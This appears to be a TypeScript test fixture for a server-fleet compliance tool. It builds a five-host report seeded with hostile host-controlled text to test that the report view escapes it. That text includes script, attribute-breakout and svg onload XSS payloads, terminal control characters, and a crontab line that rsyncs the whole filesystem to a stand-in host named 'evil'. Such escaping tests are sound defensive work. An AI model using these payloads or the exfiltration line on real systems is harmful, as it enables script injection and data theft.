// A report whose host-controlled text is hostile: markup, script, quotes, control and escape
// characters, in the places a host can put them (a crontab line, a key comment, an sshd banner).
import { buildReport, type Report } from '../../../src/report/report.js';

/** Markup planted in a crontab line: would run if the rack view put it into the page as HTML. */
export const CRONTAB_LINE = `0 3 * * * root rsync -a / backup@evil:/x </code><script>window.__pwned = 'crontab'</script> & ]]> \x1b[31mred\x1b[0m`;
/** Markup planted in an authorized_keys comment: breaks out of an attribute if quotes were not escaped. */
export const KEY_COMMENT = `ops@provider" onmouseover="window.__pwned='key'" x="<img src=x onerror="window.__pwned='img'">`;
/** Markup planted in an sshd banner, with a NUL, a BEL and a C1 CSI. */
export const SSHD_BANNER = `SSH-2.0-OpenSSH_9.2 </td></tr></table><svg onload="window.__pwned='banner'"></svg>\x00\x07\x9b2J 'single'`;

/** How every host here was examined: a root login with fleetcheck's key. */
const ROOT_LOGIN = { mode: 'login', user: 'root', sudo: false, keyFingerprint: 'SHA256:1cQhHK0Hs0hdwxhyjspJV/r7NkhHLectg7GuE2HMkts' } as const;

/** Five hosts in two racks: every status, a waived and an expired waiver, an error, and one host not scanned. */
export function hostileReport(): Report {
  return buildReport({
    version: '0.1.0',
    startedAt: new Date('2026-11-24T02:00:00Z'),
    finishedAt: new Date('2026-11-24T02:00:09.500Z'),
    inventory: 'inventory/fleet.yaml',
    interrupted: false,
    selection: { racks: ['A3', 'C2'], hosts: [], checks: ['backup.schedules', 'bmc.cipher-zero', 'residue.provider-ssh-key', 'residue.provider-ssh-ca'], hostCount: 6 },
    results: [
      {
        host: 'a3-01', rack: 'A3', verdict: 'compliant', durationMs: 410, access: ROOT_LOGIN,
        findings: [
          { id: 'backup.schedules', status: 'pass', message: 'no backup schedule among 4 crontab(s) and 2 timer(s)', evidence: [] },
          {
            id: 'bmc.cipher-zero', status: 'fail', message: 'the BMC accepts cipher suite 0',
            evidence: [{ source: 'ipmitool lanplus -C 0 session as ADMIN', detail: 'session opened with a random password' }],
            waiver: { reason: 'firmware 2.1 cannot disable suite 0; ticket <OPS-1234> & "quoted"', expires: '2099-03-31', expired: false },
            bmcFailedLogins: 0,
          },
          { id: 'residue.provider-ssh-key', status: 'pass', message: 'no provider key among 2 key(s)', evidence: [] },
          { id: 'residue.provider-ssh-ca', status: 'skip', message: 'sshd trusts no CA file', evidence: [] },
        ],
      },
      {
        host: 'a3-02', rack: 'A3', verdict: 'violation', durationMs: 380, access: ROOT_LOGIN,
        findings: [
          {
            id: 'backup.schedules', status: 'fail', message: '1 crontab entry copies data to the provider',
            evidence: [{ source: '/etc/cron.d/backup:3', detail: CRONTAB_LINE }],
          },
          {
            id: 'bmc.cipher-zero', status: 'fail', message: 'the BMC accepts cipher suite 0',
            evidence: [{ source: 'ipmitool lanplus -C 0 session as ADMIN', detail: 'session opened with a random password' }],
            waiver: { reason: 'old ticket', expires: '2026-01-31', expired: true },
          },
          {
            id: 'residue.provider-ssh-key', status: 'fail', message: `1 provider key(s) left: ${KEY_COMMENT}`,
            evidence: [{ source: '/root/.ssh/authorized_keys:2', detail: `provider key ${KEY_COMMENT} (SHA256:abc) grants access as root` }],
          },
          { id: 'residue.provider-ssh-ca', status: 'warn', message: 'an AuthorizedKeysCommand runs an unknown helper', evidence: [{ source: '/etc/ssh/sshd_config:40', detail: 'AuthorizedKeysCommand /usr/local/bin/keys %u' }] },
        ],
      },
      {
        host: 'c2-01', rack: 'C2', verdict: 'error', durationMs: 5000, access: ROOT_LOGIN,
        findings: [
          { id: 'backup.schedules', status: 'error', message: `could not collect: the sshd said ${SSHD_BANNER}`, evidence: [{ source: 'ssh 127.10.3.1:22', detail: SSHD_BANNER }] },
          { id: 'bmc.cipher-zero', status: 'error', message: 'no answer from the BMC', evidence: [], waiver: { reason: 'errors are never waived', expires: '2099-01-01', expired: false } },
          { id: 'residue.provider-ssh-key', status: 'error', message: 'could not collect', evidence: [] },
          { id: 'residue.provider-ssh-ca', status: 'error', message: 'could not collect', evidence: [] },
        ],
      },
      {
        host: 'c2-02', rack: 'C2', verdict: 'compliant', durationMs: 450, access: ROOT_LOGIN,
        findings: [
          { id: 'backup.schedules', status: 'warn', message: '1 backup schedule not attributable to the provider; review', evidence: [{ source: '/etc/cron.d/borg:7', detail: 'borg create ssh://nas.customer.example/./x' }], waiver: { reason: 'customer NAS', expires: '2099-12-31', expired: false } },
          { id: 'bmc.cipher-zero', status: 'pass', message: 'cipher suite 0 refused', evidence: [], bmcFailedLogins: 3 },
          { id: 'residue.provider-ssh-key', status: 'pass', message: 'no provider key', evidence: [] },
          { id: 'residue.provider-ssh-ca', status: 'pass', message: 'no provider CA', evidence: [] },
        ],
      },
      {
        host: 'c2-03', rack: 'C2', verdict: 'compliant', durationMs: 390, access: ROOT_LOGIN,
        findings: [
          { id: 'backup.schedules', status: 'pass', message: 'no backup schedule', evidence: [] },
          { id: 'bmc.cipher-zero', status: 'pass', message: 'cipher suite 0 refused', evidence: [] },
          { id: 'residue.provider-ssh-key', status: 'pass', message: 'no provider key', evidence: [] },
          { id: 'residue.provider-ssh-ca', status: 'pass', message: 'no provider CA', evidence: [] },
        ],
      },
    ],
    notScanned: [{ name: 'c2-04', rack: 'C2' }],
    defaultAccess: { mode: 'login', user: 'root', sudo: false },
  });
}
